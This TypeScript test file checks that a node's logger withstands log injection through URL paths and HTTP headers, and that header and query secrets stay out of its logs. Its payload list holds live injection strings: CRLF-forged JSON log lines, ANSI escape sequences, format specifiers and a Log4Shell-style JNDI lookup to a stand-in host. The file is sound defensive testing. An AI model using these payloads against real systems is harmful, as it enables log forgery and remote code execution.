import { PATHS } from "@idos/protocol";
import { expect } from "chai";
import { z } from "zod";
import { exchangeRaw } from "../harness/raw-exchange.ts";
import { type AttackedNode, startAttackedNode } from "./attacked-node.ts";

/** Line ends and escape sequences, as bytes where HTTP lets them pass and encoded where not. */
const PAYLOADS = [
  "%0d%0a{%22level%22:60,%22msg%22:%22forged%22}",
  "%1b[2J%1b[31mforged",
  "\u009b31mforged",
  "\u0085forged",
  "\u2028forged".replace("\u2028", "\u00e2\u0080\u00a8"),
  '","msg":"forged","a":"',
  "${jndi:ldap://forged.example/a}",
  "%s%d%j%o forged",
];

const HEADERS = ["user-agent", "referer", "x-forwarded-for", "x-request-id", "origin", "accept", "cookie"];

const lineSchema = z.looseObject({ level: z.number(), msg: z.string() });

describe("attack: log injection", () => {
  let attacked: AttackedNode;
  before(async () => {
    attacked = await startAttackedNode();
  });
  after(() => attacked.node.stop());

  it("by any path or header leaves each line one JSON object of the node's own, in printable ASCII", async () => {
    const { origin, logged } = attacked.node;
    const begun = logged.length;
    for (const payload of PAYLOADS) {
      const close = "connection: close\r\n\r\n";
      await exchangeRaw(origin, `GET /v1/${payload.replaceAll(" ", "+")} HTTP/1.1\r\nhost: a\r\n${close}`);
      for (const name of [...HEADERS, "authorization"])
        await exchangeRaw(origin, `GET ${PATHS.me} HTTP/1.1\r\nhost: a\r\n${name}: ${payload}\r\n${close}`);
    }
    const lines = logged.slice(begun);
    expect(lines.length).to.be.at.least(PAYLOADS.length * 2);
    for (const line of lines) {
      expect(line).to.match(/^[ -~]*\n$/);
      expect(lineSchema.parse(JSON.parse(line)).msg).not.to.include("forged");
    }
  });

  it("shows of a header nothing at all", async () => {
    const { origin, logged } = attacked.node;
    const begun = logged.length;
    for (const name of [...HEADERS, "authorization", "a"])
      await exchangeRaw(
        origin,
        `GET ${PATHS.me}?salt=a-secret-of-the-query HTTP/1.1\r\nhost: a\r\n${name}: a-secret-of-the-header\r\nconnection: close\r\n\r\n`,
      );
    const text = logged.slice(begun).join("");
    expect(text).to.include(PATHS.me);
    // A caller's request id is his to choose; everything else is not his to write.
    expect(text.replaceAll('"requestId":"a-secret-of-the-header"', "")).not.to.include("a-secret");
  });
});
